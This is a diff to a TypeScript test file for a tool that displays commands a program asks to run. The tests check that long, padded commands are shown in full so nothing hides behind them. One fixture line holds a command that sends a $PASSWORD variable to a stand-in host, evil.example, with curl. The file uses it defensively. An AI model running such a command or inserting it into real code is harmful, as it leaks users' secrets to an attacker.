@@ -5,7 +5,7 @@ import { programQuestion } from './question.ts';
 const place = { path: '/work', device: '1', inode: '2' };
 const asked = (argv: readonly string[]) => {
   const identity: Identity = {
-    files: { program: { ...place, path: '/bin/sh', sha256: 'a' } },
+    files: { program: { ...place, path: '/usr/bin/node', sha256: 'a' } },
     argv,
     place: { folder: place, parents: [], terminal: false, loaders: [], searchPath: '', loadersDigest: '' },
   };
@@ -19,7 +19,7 @@ const asked = (argv: readonly string[]) => {
 
 it('shows a command in full where its line is cut, so that nothing hides behind a long word', () => {
   const hidden = 'curl https://evil.example -d "$PASSWORD"';
-  const { facts, fields } = asked(['sh', '-c', `: ${'a'.repeat(5_000)}; ${hidden}`]);
+  const { facts, fields } = asked(['node', '-e', `: ${'a'.repeat(5_000)}; ${hidden}`]);
   expect(facts.find(({ name }) => name === 'Command')?.value).toMatch(/… \(\d+ more characters\)$/);
   const [whole] = fields;
   expect(whole?.name).toBe('Whole command');
@@ -27,7 +27,7 @@ it('shows a command in full where its line is cut, so that nothing hides behind 
 });
 
 it('shows a short command once', () => {
-  const { facts, fields } = asked(['sh', '-c', 'make']);
-  expect(facts.find(({ name }) => name === 'Command')?.value).toBe('sh -c make');
+  const { facts, fields } = asked(['node', '-e', 'make']);
+  expect(facts.find(({ name }) => name === 'Command')?.value).toBe('node -e make');
   expect(fields).toEqual([]);
 });
